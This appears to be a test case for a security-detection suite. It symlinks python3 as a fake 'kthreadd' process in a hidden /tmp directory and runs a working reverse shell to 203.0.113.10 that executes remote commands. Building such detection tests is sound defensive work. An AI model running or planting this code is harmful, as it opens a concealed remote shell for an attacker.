#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.x && ln -s /usr/bin/python3 /tmp/.x/kthreadd
/tmp/.x/kthreadd -c '
import socket, subprocess
s = socket.create_connection(("203.0.113.10", 443))
for line in s.makefile():
    if line.strip() == "exit": break
    s.sendall(subprocess.getoutput(line).encode() + b"\n")'
test -e /tmp/reached
took_place
